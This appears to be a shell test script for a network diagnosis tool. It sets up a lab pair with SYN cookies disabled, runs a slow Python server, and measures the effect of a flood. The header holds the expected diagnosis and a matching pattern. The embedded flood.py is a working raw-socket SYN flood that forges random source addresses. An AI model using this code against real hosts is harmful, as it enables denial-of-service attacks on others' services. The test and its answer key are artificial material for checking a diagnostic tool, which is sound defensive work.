# SPDX-License-Identifier: GPL-2.0-only
# True: SYNs of many addresses that never finish a handshake flood a service; its clients come in slowly.
# Say: (SYN|half-open).*(many addresses|addresses)
. ./lib.sh || exit 1
pair
on there ip route add default dev wan; on here ip route add default dev wan
on here sysctl -qw net.ipv4.tcp_syncookies=0 net.ipv4.tcp_max_syn_backlog=64
program slow.py <<'PY'
import os, socket, threading
def serve(peer):
    for line in peer.makefile("rb"):
        peer.sendall(b"ok\n")
listener = socket.create_server(("10.77.0.1", 8000), backlog=int(os.environ.get("BACKLOG", "32")))
while True:
    threading.Thread(target=serve, args=(listener.accept()[0],), daemon=True).start()
PY
start here python3 "$WORK/slow.py"; listening here 8000
client there 10.77.0.1 8000 --new --size 3
program flood.py <<'PY'
import random, socket, struct, time
out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
def total(data):
    words = sum(struct.unpack(f"!{len(data) // 2}H", data))
    words = (words >> 16) + (words & 65535)
    return ~(words + (words >> 16)) & 65535
to = socket.inet_aton("10.77.0.1")
while True:
    source = bytes([198, 18, random.randrange(256), random.randrange(1, 255)])
    ports = (random.randrange(1024, 65535), 8000, random.getrandbits(32), 0, 5 << 4, 2, 64240)
    tcp = struct.pack("!HHIIBBHHH", *ports, 0, 0)
    check = total(source + to + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)
    tcp = struct.pack("!HHIIBBHHH", *ports, check, 0)
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, 64, 6, 0, source, to)
    out.sendto(head + tcp, ("10.77.0.1", 0))
    time.sleep(0.002)
PY
start there python3 "$WORK/flood.py"
sleep 2; SECONDS_OF_ONE=8; measure here
